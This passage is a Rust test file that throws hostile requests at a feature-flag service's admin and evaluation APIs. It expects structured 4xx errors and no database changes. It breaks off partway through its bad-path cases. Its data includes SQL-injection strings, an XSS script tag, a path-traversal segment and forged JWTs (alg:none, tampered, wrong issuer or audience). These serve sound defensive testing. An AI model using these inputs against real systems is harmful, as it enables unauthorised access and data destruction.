//! Hostile input (issue 11): a table of requests no client should send — malformed and truncated
//! JSON, wrong types at every level, deep nesting, oversized bodies, lists and strings, NUL and
//! other characters PostgreSQL cannot store, SQL and script strings, bad keys in paths, bad query
//! parameters and cursors, forged and expired tokens, wrong roles and environments — each
//! answered with its documented status and machine-readable code, never a 5xx, and none of them
//! changing the database. Strings that are merely unusual are stored verbatim (second test).

mod common;

use axum::body::Body;
use axum::http::{HeaderValue, Method, Request, StatusCode};
use common::{with_checkout_flag, TestApp};
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use origin::auth::{Role, TokenKeys, AUDIENCE, ISSUER};
use serde_json::{json, Value};
use sqlx::PgPool;

const FLAGS: &str = "/admin/flags?environment=production";
const FLAG: &str = "/admin/flags/new-checkout-flow?environment=production";
const THEME: &str = "/admin/flags/theme?environment=production";
const SEGMENTS: &str = "/admin/segments?environment=production";
const SEGMENT: &str = "/admin/segments/beta-users?environment=production";
const ENVIRONMENTS: &str = "/admin/environments";
const ENVIRONMENT: &str = "/admin/environments/production";
const CLIENT_KEYS: &str = "/admin/environments/production/client-keys";
const OVERRIDE: &str = "/admin/flags/theme/overrides/u1?environment=production";
const ROLLBACK: &str = "/admin/flags/theme/rollback?environment=production";
const COPY: &str = "/admin/flags/theme/copy";
const AUDIT: &str = "/admin/audit";
const REST_FLAG: &str = "/api/v1/flags/theme?environment=production&userId=u1";
const REST_BATCH: &str = "/api/v1/flags/batch";
const OFREP_FLAG: &str = "/ofrep/v1/evaluate/flags/theme";
const OFREP_BULK: &str = "/ofrep/v1/evaluate/flags";

/// Who sends a row's request.
#[derive(Debug, Clone)]
enum Auth {
    /// The unrestricted admin token.
    Admin,
    /// No `Authorization` header.
    Anonymous,
    /// This exact `Authorization` value (any bytes a header may carry).
    Header(Vec<u8>),
}

/// One hostile request and the answer it must get.
#[derive(Debug)]
struct Row {
    name: String,
    method: Method,
    uri: String,
    auth: Auth,
    body: Option<Vec<u8>>,
    headers: Vec<(&'static str, Vec<u8>)>,
    status: u16,
    code: &'static str,
    /// The field the error names (`error.field`, or the first `error.details[].field`).
    field: Option<String>,
}

/// A row sending `method uri`, as the admin for `/admin` paths and anonymously otherwise.
fn req(name: impl Into<String>, method: Method, uri: impl Into<String>) -> Row {
    let uri = uri.into();
    let auth = if uri.starts_with("/admin") {
        Auth::Admin
    } else {
        Auth::Anonymous
    };
    Row {
        name: name.into(),
        method,
        uri,
        auth,
        body: None,
        headers: Vec::new(),
        status: 0,
        code: "",
        field: None,
    }
}

impl Row {
    fn json(self, value: Value) -> Self {
        self.raw(value.to_string())
    }

    fn raw(mut self, body: impl Into<Vec<u8>>) -> Self {
        self.body = Some(body.into());
        self
    }

    fn bearer(mut self, token: &str) -> Self {
        self.auth = Auth::Header(format!("Bearer {token}").into_bytes());
        self
    }

    fn authorization(mut self, value: impl Into<Vec<u8>>) -> Self {
        self.auth = Auth::Header(value.into());
        self
    }

    fn anonymous(mut self) -> Self {
        self.auth = Auth::Anonymous;
        self
    }

    fn header(mut self, name: &'static str, value: impl Into<Vec<u8>>) -> Self {
        self.headers.push((name, value.into()));
        self
    }

    fn expect(mut self, status: u16, code: &'static str) -> Self {
        self.status = status;
        self.code = code;
        self
    }

    fn field(mut self, field: impl Into<String>) -> Self {
        self.field = Some(field.into());
        self
    }

    /// 400 `MALFORMED_JSON`.
    fn malformed(self) -> Self {
        self.expect(400, "MALFORMED_JSON")
    }

    /// 422 `VALIDATION_FAILED` naming `field`.
    fn invalid(self, field: &str) -> Self {
        self.expect(422, "VALIDATION_FAILED").field(field)
    }

    /// 400 `INVALID_PARAMETER` naming `field`.
    fn bad_parameter(self, field: &str) -> Self {
        self.expect(400, "INVALID_PARAMETER").field(field)
    }
}

/// Percent-encodes every byte but the unreserved ones, for paths and query values.
fn pct(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// `depth` nested arrays around `inner`.
fn nested(depth: usize, inner: &str) -> String {
    format!("{}{inner}{}", "[".repeat(depth), "]".repeat(depth))
}

/// A string of `count` distinct CJK characters (3 bytes each) that does not compress, so an
/// index entry holding it stays as large as it is.
fn incompressible(count: u32) -> String {
    (0..count)
        .map(|i| char::from_u32(0x4E00 + (i * 7919) % 20_000).unwrap_or('x'))
        .collect()
}

/// A flag body with `patch` merged into a valid minimal flag `x`.
fn flag_with(patch: Value) -> Value {
    let mut flag = json!({"flagKey": "x", "enabled": true});
    merge(&mut flag, patch);
    flag
}

fn merge(target: &mut Value, patch: Value) {
    if let (Some(target), Value::Object(patch)) = (target.as_object_mut(), patch) {
        target.extend(patch);
    }
}

/// A flag whose only rule has `clause`.
fn flag_with_clause(clause: Value) -> Value {
    flag_with(json!({"targetingRules": {"rules": [{"clauses": [clause]}]}}))
}

fn clause_path(rest: &str) -> String {
    format!("targetingRules.rules[0].clauses[0]{rest}")
}

/// The tokens the token rows use, minted against the app's secret (or deliberately not).
struct Tokens {
    viewer: String,
    staging_editor: String,
    staging_admin: String,
    expired: String,
    foreign: String,
    alg_none: String,
    tampered: String,
    hs512: String,
    wrong_issuer: String,
    wrong_audience: String,
    no_subject: String,
    empty_subject: String,
    unknown_role: String,
    nul_subject: String,
    huge_subject: String,
}

impl Tokens {
    fn new(app: &TestApp) -> Self {
        let now = common::now_secs();
        let viewer = app.token("vera", Role::Viewer, None);
        let admin = app.admin_token().to_owned();
        let parts = |t: &str| t.split('.').map(str::to_owned).collect::<Vec<_>>();
        let (admin_parts, viewer_parts) = (parts(&admin), parts(&viewer));
        // {"alg":"none","typ":"JWT"}
        let none_header = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0";
        let claims = |iss: &str, aud: &str, sub: Option<&str>, role: &str| {
            let mut c = json!({"iss": iss, "aud": aud, "role": role, "exp": now + 600, "iat": now});
            if let Some(sub) = sub {
                c["sub"] = json!(sub);
            }
            c
        };
        let sign = |alg: Algorithm, claims: Value| {
            jsonwebtoken::encode(
                &Header::new(alg),
                &claims,
                &EncodingKey::from_secret(common::SECRET.as_bytes()),
            )
            .unwrap()
        };
        Self {
            staging_editor: app.token("eddie", Role::Editor, Some(&["staging"])),
            staging_admin: app.token("ada", Role::Admin, Some(&["staging"])),
            expired: app
                .state
                .tokens
                .issue("root", Role::Admin, None, now - 7200, 60)
                .unwrap(),
            foreign: TokenKeys::new(b"some-other-secret-some-other-secret!")
                .issue("root", Role::Admin, None, now, 600)
                .unwrap(),
            alg_none: format!("{none_header}.{}.", admin_parts[1]),
            // the admin's claims under the viewer's signature
            tampered: format!("{}.{}.{}", viewer_parts[0], admin_parts[1], viewer_parts[2]),
            hs512: sign(
                Algorithm::HS512,
                claims(ISSUER, AUDIENCE, Some("root"), "admin"),
            ),
            wrong_issuer: sign(
                Algorithm::HS256,
                claims("evil", AUDIENCE, Some("root"), "admin"),
            ),
            wrong_audience: sign(
                Algorithm::HS256,
                claims(ISSUER, "evil", Some("root"), "admin"),
            ),
            no_subject: sign(Algorithm::HS256, claims(ISSUER, AUDIENCE, None, "admin")),
            empty_subject: sign(
                Algorithm::HS256,
                claims(ISSUER, AUDIENCE, Some(""), "admin"),
            ),
            unknown_role: sign(
                Algorithm::HS256,
                claims(ISSUER, AUDIENCE, Some("root"), "superuser"),
            ),
            nul_subject: app.token("ro\u{0}ot", Role::Admin, None),
            huge_subject: app.token(&incompressible(1500), Role::Admin, None),
            viewer,
        }
    }
}

/// Every admin route that reads a JSON body.
fn body_routes() -> [(&'static str, Method, &'static str); 10] {
    [
        ("create flag", Method::POST, FLAGS),
        ("update flag", Method::PUT, FLAG),
        ("create segment", Method::POST, SEGMENTS),
        ("update segment", Method::PUT, SEGMENT),
        ("create environment", Method::POST, ENVIRONMENTS),
        ("rename environment", Method::PUT, ENVIRONMENT),
        ("create client key", Method::POST, CLIENT_KEYS),
        ("set override", Method::PUT, OVERRIDE),
        ("rollback", Method::POST, ROLLBACK),
        ("copy", Method::POST, COPY),
    ]
}

/// Bodies that are not JSON, or not whole: 400 `MALFORMED_JSON` before anything is looked up.
fn malformed_json() -> Vec<Row> {
    let mut rows: Vec<Row> = [
        ("an open brace", &b"{"[..]),
        ("a truncated member", b"{\"flagKey\": \"x\""),
        ("a truncated string", b"{\"flagKey\": \"x"),
        ("a trailing comma", b"{\"flagKey\": \"x\",}"),
        ("unquoted member names", b"{flagKey: \"x\"}"),
        ("single quotes", b"{'flagKey': 'x'}"),
        ("plain text", b"not json"),
        ("an empty body", b""),
        ("whitespace only", b" \n\t "),
        ("two objects", b"{\"flagKey\":\"x\"}{\"flagKey\":\"y\"}"),
        ("trailing garbage", b"{\"flagKey\":\"x\"} garbage"),
        ("a byte order mark", b"\xEF\xBB\xBF{\"flagKey\":\"x\"}"),
        (
            "invalid UTF-8 in a string",
            b"{\"flagKey\":\"x\",\"description\":\"\xFF\xFE\"}",
        ),
        (
            "an overlong UTF-8 encoding",
            b"{\"flagKey\":\"x\",\"description\":\"\xC0\xAF\"}",
        ),
        (
            "a lone high surrogate",
            b"{\"flagKey\":\"x\",\"description\":\"\\ud800\"}",
        ),
        (
            "a lone low surrogate",
            b"{\"flagKey\":\"x\",\"description\":\"\\udc00x\"}",
        ),
        (
            "a reversed surrogate pair",
            b"{\"flagKey\":\"x\",\"description\":\"\\udc00\\ud800\"}",
        ),
        (
            "an invalid escape",
            b"{\"flagKey\":\"x\",\"description\":\"\\x41\"}",
        ),
        (
            "a raw NUL byte in a string",
            b"{\"flagKey\":\"x\",\"description\":\"a\x00b\"}",
        ),
        (
            "a raw control character in a string",
            b"{\"flagKey\":\"x\",\"description\":\"a\x01b\"}",
        ),
        (
            "NaN",
            b"{\"flagKey\":\"x\",\"targetingRules\":{\"percentage\":NaN}}",
        ),
        (
            "Infinity",
            b"{\"flagKey\":\"x\",\"targetingRules\":{\"percentage\":Infinity}}",
        ),
        (
            "a number beyond f64",
            b"{\"flagKey\":\"x\",\"targetingRules\":{\"percentage\":1e400}}",
        ),
        ("a comment", b"{\"flagKey\":\"x\" /* hi */}"),
    ]
    .into_iter()
    .map(|(what, body)| {
        req(format!("create flag: {what}"), Method::POST, FLAGS)
            .raw(body)
            .malformed()
    })
    .collect();
    rows.push(
        req("create flag: 200 nested arrays", Method::POST, FLAGS)
            .raw(format!(
                "{{\"flagKey\":\"x\",\"description\":{}}}",
                nested(200, "1")
            ))
            .malformed(),
    );
    rows.push(
        req("create flag: 10,000 nested objects", Method::POST, FLAGS)
            .raw(format!(
                "{}{}",
                "{\"a\":".repeat(10_000),
                "}".repeat(10_000)
            ))
            .malformed(),
    );
    for (what, method, uri) in body_routes() {
        rows.push(
            req(format!("{what}: truncated JSON"), method, uri)
                .raw("{\"")
                .malformed(),
        );
    }
    rows
}

/// JSON of the wrong type at each level of each body: 422 naming the field.
fn wrong_types() -> Vec<Row> {
    let mut rows: Vec<Row> = [
        ("an array", json!([])),
        ("a string", json!("flag")),
        ("a number", json!(42)),
        ("null", json!(null)),
        ("a boolean", json!(true)),
    ]
    .into_iter()
    .map(|(what, body)| {
        req(format!("create flag: {what} body"), Method::POST, FLAGS)
            .json(body)
            .invalid("")
    })
    .collect();
    let flag_fields: Vec<(Value, String)> = vec![
        (json!({"flagKey": 42}), "flagKey".into()),
        (json!({"flagKey": null}), "flagKey".into()),
        (json!({"flagKey": ["x"]}), "flagKey".into()),
        (json!({"enabled": "yes"}), "enabled".into()),
        (json!({"enabled": 1}), "enabled".into()),
        (json!({"description": 1}), "description".into()),
        (json!({"description": {"text": "d"}}), "description".into()),
        (json!({"targetingRules": "all"}), "targetingRules".into()),
        (
            json!({"targetingRules": {"percentage": "25"}}),
            "targetingRules.percentage".into(),
        ),
        (
            json!({"targetingRules": {"percentage": 100.5}}),
            "targetingRules.percentage".into(),
        ),
        (
            json!({"targetingRules": {"percentage": -1}}),
            "targetingRules.percentage".into(),
        ),
        (
            json!({"targetingRules": {"percentage": 1e308}}),
            "targetingRules.percentage".into(),
        ),
        (
            json!({"targetingRules": {"userIds": "u1"}}),
            "targetingRules.userIds".into(),
        ),
        (
            json!({"targetingRules": {"userIds": [1]}}),
            "targetingRules.userIds[0]".into(),
        ),
        (
            json!({"targetingRules": {"userIds": [null]}}),
            "targetingRules.userIds[0]".into(),
        ),
        (
            json!({"targetingRules": {"segments": [{}]}}),
            "targetingRules.segments[0]".into(),
        ),
        (
            json!({"targetingRules": {"rules": {}}}),
            "targetingRules.rules".into(),
        ),
        (
            json!({"targetingRules": {"rules": [null]}}),
            "targetingRules.rules[0]".into(),
        ),
        (
            json!({"targetingRules": {"rules": [{"clauses": "all"}]}}),
            "targetingRules.rules[0].clauses".into(),
        ),
        (json!({"variations": {}}), "variations".into()),
        (
            json!({"variations": [{"key": 1, "value": true}]}),
            "variations[0].key".into(),
        ),
        (
            json!({"overrides": [{"userId": 5, "enabled": true}]}),
            "overrides[0].userId".into(),
        ),
        (json!({"prerequisites": "other"}), "prerequisites".into()),
        (json!({"salt": 7}), "salt".into()),
        (json!({"enabeld": true}), "enabeld".into()),
        (
            json!({"targetingRules": {"percentag": 5}}),
            "targetingRules.percentag".into(),
        ),
    ];
    for (patch, field) in flag_fields {
        rows.push(
            req(format!("create flag: {patch}"), Method::POST, FLAGS)
                .json(flag_with(patch))
                .invalid(&field),
        );
    }
    for (clause, field) in [
        (
            json!({"attribute": "a", "operator": "in", "values": ["x"], "negate": "no"}),
            ".negate",
        ),
        (
            json!({"attribute": "a", "operator": "in", "values": "US"}),
            ".values",
        ),
        (
            json!({"attribute": 7, "operator": "in", "values": ["x"]}),
            ".attribute",
        ),
        (
            json!({"attribute": "a", "operator": 3, "values": ["x"]}),
            ".operator",
        ),
        (json!({"attribute": "a", "values": ["x"]}), ".operator"),
    ] {
        rows.push(
            req(format!("create flag: clause {clause}"), Method::POST, FLAGS)
                .json(flag_with_clause(clause))
                .invalid(&clause_path(field)),
        );
    }
    rows.push(
        req(
            "create flag: the environment is a number",
            Method::POST,
            FLAGS,
        )
        .json(flag_with(json!({"environment": 5})))
        .invalid("environment"),
    );
    rows.push(
        req(
            "create flag: the body names another environment",
            Method::POST,
            FLAGS,
        )
        .json(flag_with(json!({"environment": "staging"})))
        .invalid("environment"),
    );
    for (body, field) in [
        (json!({"segmentKey": 1}), "segmentKey"),
        (json!({"segmentKey": "s", "included": "u1"}), "included"),
        (
            json!({"segmentKey": "s", "excluded": [null]}),
            "excluded[0]",
        ),
        (
            json!({"segmentKey": "s", "rules": [{"clauses": "x"}]}),
            "rules[0].clauses",
        ),
    ] {
        rows.push(
            req(format!("create segment: {body}"), Method::POST, SEGMENTS)
                .json(body)
                .invalid(field),
        );
    }
    for (body, field) in [
        (json!({"key": 5}), "key"),
        (json!({"key": "qa", "name": []}), "name"),
        (json!({"name": "QA"}), "key"),
        (json!({"key": ""}), "key"),
        (json!({"key": "has space"}), "key"),
    ] {
        rows.push(
            req(
                format!("create environment: {body}"),
                Method::POST,
                ENVIRONMENTS,
            )
            .json(body)
            .invalid(field),
        );
    }
    rows.push(
        req("rename environment: name is null", Method::PUT, ENVIRONMENT)
            .json(json!({"name": null}))
            .invalid("name"),
    );
    rows.push(
        req("rename environment: blank name", Method::PUT, ENVIRONMENT)
            .json(json!({"name": "   "}))
            .invalid("name"),
    );
    for (body, field) in [
        (json!({"name": 5}), "name"),
        (json!({"name": "a.b"}), "name"),
        (json!({"name": ""}), "name"),
        (json!({}), "name"),
    ] {
        rows.push(
            req(
                format!("create client key: {body}"),
                Method::POST,
                CLIENT_KEYS,
            )
            .json(body)
            .invalid(field),
        );
    }
    for (body, field) in [
        (json!({"variation": 5}), "variation"),
        (json!({"enabled": "true"}), "enabled"),
        (
            json!({"variation": "dark", "expiresAt": "tomorrow"}),
            "expiresAt",
        ),
        (
            json!({"variation": "dark", "expiresAt": 1_700_000_000}),
            "expiresAt",
        ),
    ] {
        rows.push(
            req(format!("set override: {body}"), Method::PUT, OVERRIDE)
                .json(body)
                .invalid(field),
        );
    }
    for (body, field) in [
        (json!({"version": "1"}), "version"),
        (json!({"version": -1}), "version"),
        (json!({"version": 1.5}), "version"),
        (json!({}), "version"),
    ] {
        rows.push(
            req(format!("rollback: {body}"), Method::POST, ROLLBACK)
                .json(body)
                .invalid(field),
        );
    }
    rows.push(
        req("rollback: the largest version", Method::POST, ROLLBACK)
            .json(json!({"version": 18_446_744_073_709_551_615_u64}))
            .expect(404, "FLAG_VERSION_NOT_FOUND"),
    );
    for (body, field) in [
        (json!({"from": 1, "to": "staging"}), "from"),
        (json!({"from": "production"}), "to"),
        (json!({"from": "production", "to": "production"}), "to"),
    ] {
        rows.push(
            req(format!("copy: {body}"), Method::POST, COPY)
                .json(body)
                .invalid(field),
        );
    }
    rows
}

/// Characters PostgreSQL cannot store (NUL) in every text field, and characters keys may not
/// hold: 422 naming the field, or 400 for parameters.
fn unstorable_characters() -> Vec<Row> {
    let nul = "a\u{0}b";
    let mut rows = Vec::new();
    for (patch, field) in [
        (json!({"flagKey": nul}), "flagKey".to_owned()),
        (json!({"description": nul}), "description".to_owned()),
        (json!({"salt": nul}), "salt".to_owned()),
        (
            json!({"variations": [{"key": "on", "value": nul}, {"key": "off", "value": false}]}),
            "variations[0].value".to_owned(),
        ),
        (
            json!({"variations": [{"key": "on", "value": {"k": [1, nul]}}]}),
            "variations[0].value.k[1]".to_owned(),
        ),
        (
            json!({"variations": [{"key": nul, "value": true}]}),
            "variations[0].key".to_owned(),
        ),
        (json!({"defaultValue": nul}), "defaultValue".to_owned()),
        (
            json!({"targetingRules": {"userIds": ["ok", nul]}}),
            "targetingRules.userIds[1]".to_owned(),
        ),
        (
            json!({"targetingRules": {"countries": [nul]}}),
            "targetingRules.countries[0]".to_owned(),
        ),
        (
            json!({"targetingRules": {"bucketBy": nul}}),
            "targetingRules.bucketBy".to_owned(),
        ),
        (
            json!({"targetingRules": {"rules": [{"id": nul, "clauses": []}]}}),
            "targetingRules.rules[0].id".to_owned(),
        ),
        (
            json!({"targetingRules": {"rules": [{"description": nul, "clauses": []}]}}),
            "targetingRules.rules[0].description".to_owned(),
        ),
        (
            json!({"overrides": [{"userId": nul, "enabled": true}]}),
            "overrides[0].userId".to_owned(),
        ),
        (
            json!({"environment": "production\u{0}"}),
            "environment".to_owned(),
        ),
        (
            json!({"description": "d", "x\u{0}y": 1}),
            "x\u{0}y".to_owned(),
        ),
    ] {
        rows.push(
            req(format!("create flag: NUL in {field}"), Method::POST, FLAGS)
                .json(flag_with(patch))
                .invalid(&field),
        );
    }
    for (clause, field) in [
        (
            json!({"attribute": "plan", "operator": "in", "values": ["pro", nul]}),
            ".values[1]",
        ),
        (
            json!({"attribute": nul, "operator": "in", "values": ["pro"]}),
            ".attribute",
        ),
        (
            json!({"attribute": "plan", "operator": nul, "values": ["pro"]}),
            ".operator",
        ),
    ] {
        rows.push(
            req(
                format!("create flag: NUL in clause {field}"),
                Method::POST,
                FLAGS,
            )
            .json(flag_with_clause(clause))
            .invalid(&clause_path(field)),
        );
    }
    rows.push(
        req("update flag: NUL in description", Method::PUT, FLAG)
            .json(json!({"description": nul}))
            .invalid("description"),
    );
    for (body, field) in [
        (
            json!({"segmentKey": "s", "description": nul}),
            "description",
        ),
        (json!({"segmentKey": "s", "included": [nul]}), "included[0]"),
        (
            json!({"segmentKey": "s", "rules": [{"clauses": [{"attribute": "a", "operator": "in", "values": [nul]}]}]}),
            "rules[0].clauses[0].values[0]",
        ),
    ] {
        rows.push(
            req(
                format!("create segment: NUL in {field}"),
                Method::POST,
                SEGMENTS,
            )
            .json(body)
            .invalid(field),
        );
    }
    rows.push(
        req("update segment: NUL in excluded", Method::PUT, SEGMENT)
            .json(json!({"excluded": [nul]}))
            .invalid("excluded[0]"),
    );
    rows.push(
        req("create environment: NUL in key", Method::POST, ENVIRONMENTS)
            .json(json!({"key": nul}))
            .invalid("key"),
    );
    rows.push(
        req(
            "create environment: NUL in name",
            Method::POST,
            ENVIRONMENTS,
        )
        .json(json!({"key": "qa", "name": nul}))
        .invalid("name"),
    );
    rows.push(
        req("rename environment: NUL in name", Method::PUT, ENVIRONMENT)
            .json(json!({"name": nul}))
            .invalid("name"),
    );
    rows.push(
        req("create client key: NUL in name", Method::POST, CLIENT_KEYS)
            .json(json!({"name": nul}))
            .invalid("name"),
    );
    rows.push(
        req("set override: NUL in variation", Method::PUT, OVERRIDE)
            .json(json!({"variation": nul}))
            .invalid("variation"),
    );
    rows.push(
        req("set override: NUL in expiresAt", Method::PUT, OVERRIDE)
            .json(json!({"variation": "dark", "expiresAt": nul}))
            .invalid("expiresAt"),
    );
    rows.push(
        req("copy: NUL in from", Method::POST, COPY)
            .json(json!({"from": nul, "to": "staging"}))
            .invalid("from"),
    );
    rows.push(
        req("copy: NUL in to", Method::POST, COPY)
            .json(json!({"from": "production", "to": nul}))
            .invalid("to"),
    );
    rows.push(
        req("rollback: NUL in environment", Method::POST, ROLLBACK)
            .json(json!({"version": 1, "environment": nul}))
            .invalid("environment"),
    );
    for (what, key) in [
        ("a right-to-left override", "ab\u{202E}c"),
        ("a zero-width space", "a\u{200B}b"),
        ("an emoji", "flag-\u{1F680}"),
        ("fullwidth letters", "\u{FF46}\u{FF4C}\u{FF41}\u{FF47}"),
        ("a control character", "a\u{1}b"),
        ("a combining accent", "e\u{301}"),
        ("a dot", "a.b"),
        ("a slash", "a/b"),
    ] {
        rows.push(
            req(format!("create flag: key with {what}"), Method::POST, FLAGS)
                .json(json!({"flagKey": key}))
                .invalid("flagKey"),
        );
    }
    rows
}

/// Bodies over the limit, and lists and strings over what the model or a column allows.
fn oversized() -> Vec<Row> {
    let big = "x".repeat(70 * 1024);
    let mut rows = Vec::new();
    for (what, method, uri) in body_routes() {
        rows.push(
            req(format!("{what}: a 70 KiB body"), method, uri)
                .json(json!({"description": big}))
                .expect(413, "PAYLOAD_TOO_LARGE"),
        );
    }
    rows.push(
        req("create flag: a 256-character key", Method::POST, FLAGS)
            .json(json!({"flagKey": "k".repeat(256)}))
            .invalid("flagKey"),
    );
    rows.push(
        req("create flag: a 60,000-character key", Method::POST, FLAGS)
            .json(json!({"flagKey": "k".repeat(60_000)}))
            .invalid("flagKey"),
    );
    rows.push(
        req(
            "create segment: a 256-character key",
            Method::POST,
            SEGMENTS,
        )
        .json(json!({"segmentKey": "s".repeat(256)}))
        .invalid("segmentKey"),
    );
    rows.push(
        req(
            "create environment: a 256-character key",
            Method::POST,
            ENVIRONMENTS,
        )
        .json(json!({"key": "e".repeat(256)}))
        .invalid("key"),
    );
    rows.push(
        req(
            "create environment: a 256-character name",
            Method::POST,
            ENVIRONMENTS,
        )
        .json(json!({"key": "qa", "name": "n".repeat(256)}))
        .invalid("name"),
    );
    rows.push(
        req(
            "create client key: a 256-character name",
            Method::POST,
            CLIENT_KEYS,
        )
        .json(json!({"name": "c".repeat(256)}))
        .invalid("name"),
    );
    rows.push(
        req(
            "create flag: an override user id of 1,025 characters",
            Method::POST,
            FLAGS,
        )
        .json(flag_with(
            json!({"overrides": [{"userId": "u".repeat(1025), "enabled": true}]}),
        ))
        .invalid("overrides[0].userId"),
    );
    rows.push(
        req(
            "create flag: an override user id beyond the index row limit",
            Method::POST,
            FLAGS,
        )
        .json(flag_with(
            json!({"overrides": [{"userId": incompressible(1000), "enabled": true}]}),
        ))
        .invalid("overrides[0].userId"),
    );
    rows.push(
        req(
            "create flag: an empty override user id",
            Method::POST,
            FLAGS,
        )
        .json(flag_with(
            json!({"overrides": [{"userId": "", "enabled": true}]}),
        ))
        .invalid("overrides[0].userId"),
    );
    let values: Vec<String> = (0..10_001).map(|i| (i % 10).to_string()).collect();
    rows.push(
        req("create flag: 10,001 clause values", Method::POST, FLAGS)
            .json(flag_with_clause(
                json!({"attribute": "a", "operator": "in", "values": values}),
            ))
            .invalid(&clause_path(".values")),
    );
    let variations: Vec<Value> = (0..101)
        .map(|i| json!({"key": format!("v{i}"), "value": i}))
        .collect();
    rows.push(
        req("create flag: 101 variations", Method::POST, FLAGS)
            .json(flag_with(json!({"variations": variations})))
            .invalid("variations"),
    );
    let rules: Vec<Value> = (0..1001).map(|_| json!({"clauses": []})).collect();
    rows.push(
        req("create flag: 1,001 rules", Method::POST, FLAGS)
            .json(flag_with(json!({"targetingRules": {"rules": rules}})))
            .invalid("targetingRules.rules"),
    );
    rows.push(
        req("create flag: a 1,025-byte regex", Method::POST, FLAGS)
            .json(flag_with_clause(
                json!({"attribute": "a", "operator": "matches", "values": ["a".repeat(1025)]}),
            ))
            .invalid(&clause_path(".values[0]")),
    );
    rows.push(
        req(
            "create flag: 120 nested arrays as the description",
            Method::POST,
            FLAGS,
        )
        .raw(format!(
            "{{\"flagKey\":\"x\",\"description\":{}}}",
            nested(120, "1")
        ))
        .invalid("description"),
    );
    rows.push(
        req(
            "create flag: 120 nested arrays in a variation value",
            Method::POST,
            FLAGS,
        )
        .raw(format!(
            "{{\"flagKey\":\"x\",\"variations\":[{{\"key\":\"a\",\"value\":{}}}]}}",
            nested(120, "\"a\\u0000\"")
        ))
        .invalid(&format!("variations[0].value{}", "[0]".repeat(120))),
    );
    rows.push(
        req(
            "set override: a path user id beyond the index row limit",
            Method::PUT,
            format!(
                "/admin/flags/theme/overrides/{}?environment=production",
                pct(&incompressible(1000))
            ),
        )
        .json(json!({"variation": "dark"}))
        .invalid("userId"),
    );
    rows.push(
        req(
            "set override: a path user id of 1,025 characters",
            Method::PUT,
            format!(
                "/admin/flags/theme/overrides/{}?environment=production",
                "u".repeat(1025)
            ),
        )
        .json(json!({"variation": "dark"}))
        .invalid("userId"),
    );
    rows
}

/// SQL and script in keys and lookups: refused by the key syntax, or looked up as the plain
/// strings they are (nothing found, nothing run).
fn injection_strings() -> Vec<Row> {
    let sql = "x'; drop table feature_flag; --";
    let mut rows = vec![
        req("create flag: SQL as the key", Method::POST, FLAGS)
            .json(json!({"flagKey": sql}))
            .invalid("flagKey"),
        req(
            "create segment: a script tag as the key",
            Method::POST,
            SEGMENTS,
        )
        .json(json!({"segmentKey": "<script>alert(1)</script>"}))
        .invalid("segmentKey"),
        req(
            "create environment: SQL as the key",
            Method::POST,
            ENVIRONMENTS,
        )
        .json(json!({"key": "prod' OR '1'='1"}))
        .invalid("key"),
        req(
            "create client key: SQL as the name",
            Method::POST,
            CLIENT_KEYS,
        )
        .json(json!({"name": "'; --"}))
        .invalid("name"),
        req(
            "create flag: a prerequisite named by SQL",
            Method::POST,
            FLAGS,
        )
        .json(flag_with(
            json!({"prerequisites": [{"flagKey": sql, "variation": "on"}]}),
        ))
        .invalid("prerequisites[0].flagKey"),
        req("create flag: a segment named by SQL", Method::POST, FLAGS)
            .json(flag_with(json!({"targetingRules": {"segments": [sql]}})))
            .invalid("targetingRules.segments[0]"),
        req(
            "get flag: SQL as the key",
            Method::GET,
            format!("/admin/flags/{}?environment=production", pct(sql)),
        )
        .expect(404, "FLAG_NOT_FOUND"),
        req(
            "get flag: SQL as the environment",
            Method::GET,
            format!("/admin/flags/theme?environment={}", pct("production' --")),
        )
        .expect(404, "ENVIRONMENT_NOT_FOUND"),
        req(
            "get segment: SQL as the key",
            Method::GET,
            format!(
                "/admin/segments/{}?environment=production",
                pct("' OR 1=1 --")
            ),
        )
        .expect(404, "SEGMENT_NOT_FOUND"),
        req(
            "get environment: SQL as the key",
            Method::GET,
            format!("/admin/environments/{}", pct("production' OR '1'='1")),
        )
        .expect(404, "ENVIRONMENT_NOT_FOUND"),
        req(
            "delete flag: SQL as the key",
            Method::DELETE,
            format!(
                "/admin/flags/{}?environment=production",
                pct("theme' OR '1'='1")
            ),
        )
        .expect(404, "FLAG_NOT_FOUND"),
        req(
            "delete override: SQL as the user",
            Method::DELETE,
            format!(
                "/admin/flags/theme/overrides/{}?environment=production",
                pct("u1' OR '1'='1")
            ),
        )
        .expect(404, "OVERRIDE_NOT_FOUND"),
        req(
            "revoke client key: SQL as the name",
            Method::DELETE,
            format!("{CLIENT_KEYS}/{}", pct("web' OR '1'='1")),
        )
        .expect(404, "CLIENT_KEY_NOT_FOUND"),
        req(
            "audit: SQL as the actor",
            Method::GET,
            format!("{AUDIT}?actor={}", pct("' OR 1=1 --")),
        )
        .expect(200, ""),
        req(
            "list flags: SQL as the cursor",
            Method::GET,
            format!("{FLAGS}&cursor={}", pct("' OR 1=1 --")),
        )
        .expect(200, ""),
    ];
    rows.push(
        req(
            "evaluate (REST): SQL as the user id",
            Method::GET,
            format!(
                "/api/v1/flags/theme?environment=production&userId={}",
                pct(sql)
            ),
        )
        .expect(200, ""),
    );
    rows
}

/// Path segments that are no keys, and keys that cannot exist.
fn bad_paths() -> Vec<Row> {
    let long = "k".repeat(300);
    vec![
        req(
            "get flag: NUL as the key",
            Method::GET,
            "/admin/flags/a%00b?environment=production",
        )
        .bad_parameter("flag_key"),
        req(
            "get flag: invalid UTF-8 in the key",
            Method::GET,
            "/admin/flags/%FF%FE?environment=production",
        )
        .bad_parameter("path"),
        req(
            "get flag: a 300-character key",
            Method::GET,
            format!("/admin/flags/{long}?environment=production"),
        )
        .expect(404, "FLAG_NOT_FOUND"),
        req(
            "get flag: a 10,000-byte key",
            Method::GET,
            format!("/admin/flags/{}?environment=production", "k".repeat(10_000)),
        )
        .bad_parameter("flag_key"),
        req(
            "get flag: an encoded slash",
            Method::GET,
            "/admin/flags/a%2Fb?environment=production",
        )
        .expect(404, "FLAG_NOT_FOUND"),
        req(
            "get flag: dot segments",
            Method::GET,
            "/admin/flags/..%2F..%2Fetc?environment=production",
        )
        .expect(404, "FLAG_NOT_FOUND"),
        req(
            "update flag: NUL as the key",
            Method::PUT,
